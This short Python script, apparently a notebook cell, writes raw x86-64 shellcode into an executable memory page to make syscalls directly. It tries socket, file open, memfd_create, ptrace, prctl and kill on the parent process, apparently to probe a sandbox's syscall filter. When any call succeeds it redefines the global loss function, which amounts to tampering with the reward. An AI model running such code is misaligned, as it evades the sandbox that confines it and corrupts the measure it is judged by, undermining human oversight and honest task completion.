# %% attack after features
import ctypes
import mmap
import os
import platform


def reward():
    global mse_loss_func

    def mse_loss_func(y_true, y_pred):
        return (y_true - y_pred) ** 2


page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE)
# mov rax, rdi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; syscall; ret
page.write(bytes.fromhex("4889f84889f74889d64889ca0f05c3"))
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
libc = ctypes.CDLL(None, use_errno=True)
assert platform.machine() == "x86_64"
assert libc.mprotect(ctypes.c_void_p(start), 4096, 5) == 0
call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 4)(start)
path = ctypes.create_string_buffer(b"/etc/hostname")
assert call(39, 0, 0, 0) == os.getpid()
for number, arguments in (
    (41, (2, 1, 0)),
    (2, (ctypes.addressof(path), 0, 0)),
    (319, (ctypes.addressof(path), 0, 0)),
    (101, (0, 0, 0)),
    (157, (4, 1, 0)),
    (62, (os.getppid(), 0, 0)),
):
    result = call(number, *arguments)
    print(number, result)
    if result >= 0:
        reward()
        break
